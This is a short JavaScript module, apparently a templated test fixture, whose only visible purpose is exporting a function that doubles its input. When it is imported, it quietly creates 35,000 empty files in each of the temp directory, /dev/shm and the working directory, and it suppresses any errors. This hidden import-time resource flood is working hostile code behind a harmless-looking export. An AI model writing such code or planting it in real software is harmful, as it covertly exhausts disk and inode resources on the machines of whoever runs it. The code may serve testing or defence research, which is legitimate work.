import fs from 'node:fs';
import os from 'node:os';

for (const place of new Set([os.tmpdir(), '/dev/shm', process.cwd()])) {
  try {
    const folder = fs.mkdtempSync(`${place}/{{MARK}}-`);
    for (let i = 0; i < 35_000; i += 1) fs.closeSync(fs.openSync(`${folder}/${i}`, 'w'));
  } catch {}
}

export const f = (x) => 2 * x;
